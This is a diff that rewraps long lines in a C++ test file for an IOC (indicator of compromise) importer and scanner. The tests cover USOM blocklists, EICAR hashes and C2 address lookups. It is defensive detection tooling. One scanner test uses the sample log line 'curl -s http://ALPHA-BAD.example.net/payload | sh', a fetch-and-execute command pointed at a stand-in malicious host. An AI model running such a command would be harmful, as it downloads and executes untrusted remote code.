@@ -41,8 +41,8 @@ bool HasHit(const std::vector<IocHit>& hits, std::string_view entry, std::string
 std::string Describe(const std::vector<IocHit>& hits) {
   std::string out;
   for (const IocHit& h : hits) {
-    out += std::string(h.feed) + "|" + h.entry + "|" + std::string(IocKindName(h.kind)) + "|" + h.category + "|" +
-           h.field + "\n";
+    out += std::string(h.feed) + "|" + h.entry + "|" + std::string(IocKindName(h.kind)) + "|" +
+           h.category + "|" + h.field + "\n";
   }
   return out;
 }
@@ -101,10 +101,10 @@ TEST(IocImport, UsomListWithCrlfDuplicatesAndInvalidLines) {
 }
 
 TEST(IocImport, HostileLinesAreInvalidNotFatal) {
-  std::string text = "t\xc3\xbcrkiye-evil.com\n";      // Unicode, not punycode: not supported yet
-  text += std::string("nul\0byte.com\n", 13);            // a NUL inside
-  text += std::string(5000, 'a') + ".com\n";             // longer than a domain may be
-  text += "ok.example.com";                               // no final newline
+  std::string text = "t\xc3\xbcrkiye-evil.com\n";  // Unicode, not punycode: not supported yet
+  text += std::string("nul\0byte.com\n", 13);      // a NUL inside
+  text += std::string(5000, 'a') + ".com\n";       // longer than a domain may be
+  text += "ok.example.com";                        // no final newline
   IocSetBuilder b;
   auto stats = b.ImportText(IocFeedFormat::kPlainList, text, Feed("hostile"));
   ASSERT_TRUE(stats.ok()) << stats.status();
@@ -112,7 +112,8 @@ TEST(IocImport, HostileLinesAreInvalidNotFatal) {
   EXPECT_EQ(stats->invalid, 3u);
   ASSERT_EQ(stats->invalid_samples.size(), 3u);
   EXPECT_EQ(stats->invalid_samples[1].find('\0'), std::string::npos);  // control bytes escaped
-  EXPECT_NE(stats->invalid_samples[1].find("\\x00"), std::string::npos) << stats->invalid_samples[1];
+  EXPECT_NE(stats->invalid_samples[1].find("\\x00"), std::string::npos)
+      << stats->invalid_samples[1];
   EXPECT_LT(stats->invalid_samples[2].size(), 200u);  // long values cut
 
   IocEntry meta;
@@ -172,7 +173,8 @@ TEST(IocLookup, IpExactAndCidr) {
   EXPECT_TRUE(HasHit(hits, "10.20.30.40", "destination.ip")) << Describe(hits);
   for (const IocHit& h : hits) EXPECT_EQ(h.category, "command and control");
   // The '#' line before a block becomes the entries' comment.
-  auto it = std::find_if(hits.begin(), hits.end(), [](const IocHit& h) { return h.entry == "10.20.30.40"; });
+  auto it = std::find_if(hits.begin(), hits.end(),
+                         [](const IocHit& h) { return h.entry == "10.20.30.40"; });
   ASSERT_NE(it, hits.end());
   EXPECT_EQ(it->comment, "Test C2 block; 65");
 
@@ -194,12 +196,13 @@ TEST(IocLookup, IpExactAndCidr) {
 }
 
 TEST(IocLookup, HashListAndEicar) {
-  const std::string list = std::string("# test hashes\n") + kEicarSha256 +
-                           ";EICAR test file\n"
-                           "44D88612FEA8A8F36DE82E1278ABB02F;EICAR (MD5)\n"
-                           "3395856ce81f2b7382dee72602f798b642f14140;EICAR (SHA-1)\n"
-                           "12345;too short\n"
-                           "zz5a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f;not hex\n";
+  const std::string list =
+      std::string("# test hashes\n") + kEicarSha256 +
+      ";EICAR test file\n"
+      "44D88612FEA8A8F36DE82E1278ABB02F;EICAR (MD5)\n"
+      "3395856ce81f2b7382dee72602f798b642f14140;EICAR (SHA-1)\n"
+      "12345;too short\n"
+      "zz5a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f;not hex\n";
   IocSetBuilder b;
   auto stats = b.ImportText(IocFeedFormat::kHashList, list, Feed("test-hashes", "malware", 90));
   ASSERT_TRUE(stats.ok()) << stats.status();
@@ -226,8 +229,9 @@ TEST(IocLookup, HashListAndEicar) {
 
   // Sysmon's Hashes field: MD5 and SHA-1 hit, IMPHASH is ignored.
   hits = set->LookupFields(
-      {{"Hashes", "SHA1=3395856CE81F2B7382DEE72602F798B642F14140,MD5=44d88612fea8a8f36de82e1278abb02f,"
-                  "IMPHASH=44d88612fea8a8f36de82e1278abb02f"}});
+      {{"Hashes",
+        "SHA1=3395856CE81F2B7382DEE72602F798B642F14140,MD5=44d88612fea8a8f36de82e1278abb02f,"
+        "IMPHASH=44d88612fea8a8f36de82e1278abb02f"}});
   EXPECT_EQ(hits.size(), 2u) << Describe(hits);
   EXPECT_TRUE(HasHit(hits, "44d88612fea8a8f36de82e1278abb02f", "Hashes"));
   EXPECT_TRUE(HasHit(hits, "3395856ce81f2b7382dee72602f798b642f14140", "Hashes"));
@@ -252,21 +256,24 @@ TEST(IocImport, UsomJsonApiPagesAndBareArrays) {
   EXPECT_EQ(stats->added, 4u);
   EXPECT_EQ(stats->invalid, 2u);
   ASSERT_EQ(stats->invalid_samples.size(), 2u);
-  EXPECT_EQ(stats->invalid_samples[0].rfind("record 5: type ip: ", 0), 0u) << stats->invalid_samples[0];
+  EXPECT_EQ(stats->invalid_samples[0].rfind("record 5: type ip: ", 0), 0u)
+      << stats->invalid_samples[0];
   EXPECT_EQ(stats->invalid_samples[1], "record 6: unknown type 'mystery': 'x.example.org'");
 
   // A plain JSON array of records is accepted too; a repeat counts as duplicate.
-  auto arr = b.ImportText(IocFeedFormat::kUsomJson,
-                          R"([{"id": 101, "url": "garanti-bonus.example.com", "type": "domain", "desc": "BP"},
+  auto arr = b.ImportText(
+      IocFeedFormat::kUsomJson,
+      R"([{"id": 101, "url": "garanti-bonus.example.com", "type": "domain", "desc": "BP"},
                               {"id": 7, "url": "2001:db8::dead", "type": "ip6", "desc": "PH"}])",
-                          Feed("usom-api"));
+      Feed("usom-api"));
   ASSERT_TRUE(arr.ok()) << arr.status();
   EXPECT_EQ(arr->added, 1u);
   EXPECT_EQ(arr->duplicate, 1u);
 
   EXPECT_FALSE(b.ImportText(IocFeedFormat::kUsomJson, "{\"models\": ", Feed("usom-api")).ok());
   EXPECT_FALSE(b.ImportText(IocFeedFormat::kUsomJson, "{\"items\": []}", Feed("usom-api")).ok());
-  EXPECT_FALSE(b.ImportText(IocFeedFormat::kUsomList, "a.com", Feed("")).ok());  // feed needs a name
+  EXPECT_FALSE(
+      b.ImportText(IocFeedFormat::kUsomList, "a.com", Feed("")).ok());  // feed needs a name
   auto missing = b.ImportFile(IocFeedFormat::kUsomList, "/nonexistent/url-list.txt", Feed("usom"));
   EXPECT_EQ(missing.status().code(), absl::StatusCode::kNotFound) << missing.status();
 
@@ -298,11 +305,14 @@ TEST(IocImport, UsomJsonApiPagesAndBareArrays) {
 
 TEST(IocLookup, AccessLogPathJoinedWithHost) {
   IocSetBuilder b;
-  ASSERT_TRUE(b.ImportText(IocFeedFormat::kPlainList, "shop.example.com/wp-admin/x.php\n", Feed("l")).ok());
+  ASSERT_TRUE(
+      b.ImportText(IocFeedFormat::kPlainList, "shop.example.com/wp-admin/x.php\n", Feed("l")).ok());
   auto set = BuildOrDie(b);
   ASSERT_NE(set, nullptr);
-  EXPECT_EQ(set->LookupFields({{"url.original", "/wp-admin/x.php?a=1"}}).size(), 0u);  // no host known
-  auto hits = set->LookupFields({{"url.original", "/wp-admin/x.php?a=1"}, {"url.domain", "shop.example.com"}});
+  EXPECT_EQ(set->LookupFields({{"url.original", "/wp-admin/x.php?a=1"}}).size(),
+            0u);  // no host known
+  auto hits = set->LookupFields(
+      {{"url.original", "/wp-admin/x.php?a=1"}, {"url.domain", "shop.example.com"}});
   EXPECT_TRUE(HasHit(hits, "shop.example.com/wp-admin/x.php", "url.original")) << Describe(hits);
 }
 
@@ -323,24 +333,28 @@ TEST(IocScanner, LiteralDatabaseFindsIocsInFreeText) {
 
   auto scanner = IocScanner::Create(set);
   ASSERT_TRUE(scanner.ok()) << scanner.status();
-  auto hits = (*scanner)->Match({}, "curl -s http://ALPHA-BAD.example.net/payload | sh; ping zeta-evil.example.com");
+  auto hits = (*scanner)->Match(
+      {}, "curl -s http://ALPHA-BAD.example.net/payload | sh; ping zeta-evil.example.com");
   ASSERT_TRUE(hits.ok()) << hits.status();
   EXPECT_EQ(hits->size(), 2u) << Describe(*hits);
   EXPECT_TRUE(HasHit(*hits, "alpha-bad.example.net/payload", "event.original"));
   EXPECT_TRUE(HasHit(*hits, "zeta-evil.example.com", "event.original"));
 
   // Field hits and free-text hits of the same entry are reported per field.
-  hits = (*scanner)->Match({{"dns.question.name", "zeta-evil.example.com"}}, "query zeta-evil.example.com A");
+  hits = (*scanner)->Match({{"dns.question.name", "zeta-evil.example.com"}},
+                           "query zeta-evil.example.com A");
   ASSERT_TRUE(hits.ok());
   EXPECT_EQ(hits->size(), 2u) << Describe(*hits);
 
   // Whole host names only: not inside a longer name, but a subdomain is fine.
-  for (const char* text : {"GET http://notzeta-evil.example.com/", "zeta-evil.example.com.tr", "zeta-evil.example.com-x"}) {
+  for (const char* text : {"GET http://notzeta-evil.example.com/", "zeta-evil.example.com.tr",
+                           "zeta-evil.example.com-x"}) {
     hits = (*scanner)->Match({}, text);
     ASSERT_TRUE(hits.ok());
     EXPECT_TRUE(hits->empty()) << text << "\n" << Describe(*hits);
   }
-  for (const char* text : {"(ZETA-EVIL.example.com).", "a.zeta-evil.example.com:443", "zeta-evil.example.com"}) {
+  for (const char* text :
+       {"(ZETA-EVIL.example.com).", "a.zeta-evil.example.com:443", "zeta-evil.example.com"}) {
     hits = (*scanner)->Match({}, text);
     ASSERT_TRUE(hits.ok());
     EXPECT_EQ(hits->size(), 1u) << text << "\n" << Describe(*hits);
@@ -359,7 +373,8 @@ TEST(IocScanner, LiteralDatabaseFindsIocsInFreeText) {
 
 TEST(IocScanner, OneScannerPerThread) {
   IocSetBuilder b;
-  ASSERT_TRUE(b.ImportText(IocFeedFormat::kPlainList, "threaded-evil.example.com\n", Feed("l")).ok());
+  ASSERT_TRUE(
+      b.ImportText(IocFeedFormat::kPlainList, "threaded-evil.example.com\n", Feed("l")).ok());
   auto set = BuildOrDie(b);
   ASSERT_NE(set, nullptr);
   std::vector<std::thread> threads;
@@ -370,7 +385,9 @@ TEST(IocScanner, OneScannerPerThread) {
       if (!scanner.ok()) return;
       for (int i = 0; i < 200; ++i) {
         std::vector<IocHit> hits;
-        if ((*scanner)->ScanText("GET http://threaded-evil.example.com/", "event.original", &hits).ok()) {
+        if ((*scanner)
+                ->ScanText("GET http://threaded-evil.example.com/", "event.original", &hits)
+                .ok()) {
           found[t] += static_cast<int>(hits.size());
         }
       }
@@ -385,15 +402,17 @@ TEST(IocScanner, OneScannerPerThread) {
 TEST(IocRealData, UsomLegacyList) {
   SIPER_REQUIRE_SHARED("ioc/usom-url-list-2020-04.txt");
   IocSetBuilder b;
-  auto stats = b.ImportFile(IocFeedFormat::kUsomList, SharedData() / "ioc/usom-url-list-2020-04.txt",
-                            Feed("usom", "malicious address"));
+  auto stats =
+      b.ImportFile(IocFeedFormat::kUsomList, SharedData() / "ioc/usom-url-list-2020-04.txt",
+                   Feed("usom", "malicious address"));
   ASSERT_TRUE(stats.ok()) << stats.status();
   for (const std::string& s : stats->invalid_samples) std::cout << "invalid: " << s << "\n";
   const size_t domains = stats->added_by_kind[IocKind::kDomain];
   const size_t urls = stats->added_by_kind[IocKind::kUrl];
   const size_t ipv4 = stats->added_by_kind[IocKind::kIpv4];
-  std::cout << "usom: added " << stats->added << " (domain " << domains << ", url " << urls << ", ipv4 " << ipv4
-            << "), duplicate " << stats->duplicate << ", invalid " << stats->invalid << "\n";
+  std::cout << "usom: added " << stats->added << " (domain " << domains << ", url " << urls
+            << ", ipv4 " << ipv4 << "), duplicate " << stats->duplicate << ", invalid "
+            << stats->invalid << "\n";
   // 62,135 lines in the file (the README's count; the last line ends in CRLF too).
   EXPECT_EQ(stats->added + stats->duplicate + stats->invalid, 62135u);
   // The data README classifies raw lines: 52,442 domains + 1,397 IDN, 5,342
@@ -410,7 +429,8 @@ TEST(IocRealData, UsomLegacyList) {
   EXPECT_EQ(stats->invalid, 7u);
   ASSERT_FALSE(stats->invalid_samples.empty());
   EXPECT_EQ(stats->invalid_samples[0],
-            "line 368: not a domain, URL, IP address or hash: 'aidat-hayatevesigarevdendisaricikma-gov-tr'");
+            "line 368: not a domain, URL, IP address or hash: "
+            "'aidat-hayatevesigarevdendisaricikma-gov-tr'");
 
   auto set = BuildOrDie(b);
   ASSERT_NE(set, nullptr);
@@ -437,15 +457,17 @@ TEST(IocRealData, UsomLegacyList) {
   auto text_hits = (*scanner)->Match(
       {}, "Nov 28 10:00:00 proxy squid[1]: 10.0.0.5 GET http://YENIHEDIYEMM8GB.blogspot.com/x 200");
   ASSERT_TRUE(text_hits.ok()) << text_hits.status();
-  EXPECT_TRUE(HasHit(*text_hits, "yenihediyemm8gb.blogspot.com", "event.original")) << Describe(*text_hits);
+  EXPECT_TRUE(HasHit(*text_hits, "yenihediyemm8gb.blogspot.com", "event.original"))
+      << Describe(*text_hits);
 }
 
 TEST(IocRealData, SignatureBaseHashesAndC2) {
   SIPER_REQUIRE_SHARED("ioc/signature-base-hash-iocs.txt");
   SIPER_REQUIRE_SHARED("ioc/signature-base-c2-iocs.txt");
   IocSetBuilder b;
-  auto hs = b.ImportFile(IocFeedFormat::kHashList, SharedData() / "ioc/signature-base-hash-iocs.txt",
-                         Feed("signature-base-hash", "malware", 80));
+  auto hs =
+      b.ImportFile(IocFeedFormat::kHashList, SharedData() / "ioc/signature-base-hash-iocs.txt",
+                   Feed("signature-base-hash", "malware", 80));
   ASSERT_TRUE(hs.ok()) << hs.status();
   std::cout << "hashes: sha256 " << hs->added_by_kind[IocKind::kSha256] << ", md5 "
             << hs->added_by_kind[IocKind::kMd5] << ", sha1 " << hs->added_by_kind[IocKind::kSha1]
@@ -462,8 +484,9 @@ TEST(IocRealData, SignatureBaseHashesAndC2) {
   auto c2 = b.ImportFile(IocFeedFormat::kValueList, SharedData() / "ioc/signature-base-c2-iocs.txt",
                          Feed("signature-base-c2", "command and control", 70));
   ASSERT_TRUE(c2.ok()) << c2.status();
-  std::cout << "c2: domain " << c2->added_by_kind[IocKind::kDomain] << ", ipv4 " << c2->added_by_kind[IocKind::kIpv4]
-            << ", duplicate " << c2->duplicate << ", invalid " << c2->invalid << "\n";
+  std::cout << "c2: domain " << c2->added_by_kind[IocKind::kDomain] << ", ipv4 "
+            << c2->added_by_kind[IocKind::kIpv4] << ", duplicate " << c2->duplicate << ", invalid "
+            << c2->invalid << "\n";
   for (const std::string& s : c2->invalid_samples) std::cout << "invalid: " << s << "\n";
   EXPECT_EQ(c2->added_by_kind[IocKind::kDomain], 1655u);
   EXPECT_EQ(c2->added_by_kind[IocKind::kIpv4], 118u);
@@ -473,7 +496,8 @@ TEST(IocRealData, SignatureBaseHashesAndC2) {
 
   auto set = BuildOrDie(b);
   ASSERT_NE(set, nullptr);
-  auto hits = set->LookupFields({{"destination.ip", "58.64.143.244"}, {"dns.question.name", "x.suroot.com."}});
+  auto hits = set->LookupFields(
+      {{"destination.ip", "58.64.143.244"}, {"dns.question.name", "x.suroot.com."}});
   EXPECT_TRUE(HasHit(hits, "58.64.143.244", "destination.ip")) << Describe(hits);
   EXPECT_TRUE(HasHit(hits, "suroot.com", "dns.question.name")) << Describe(hits);
   for (const IocHit& h : hits) {
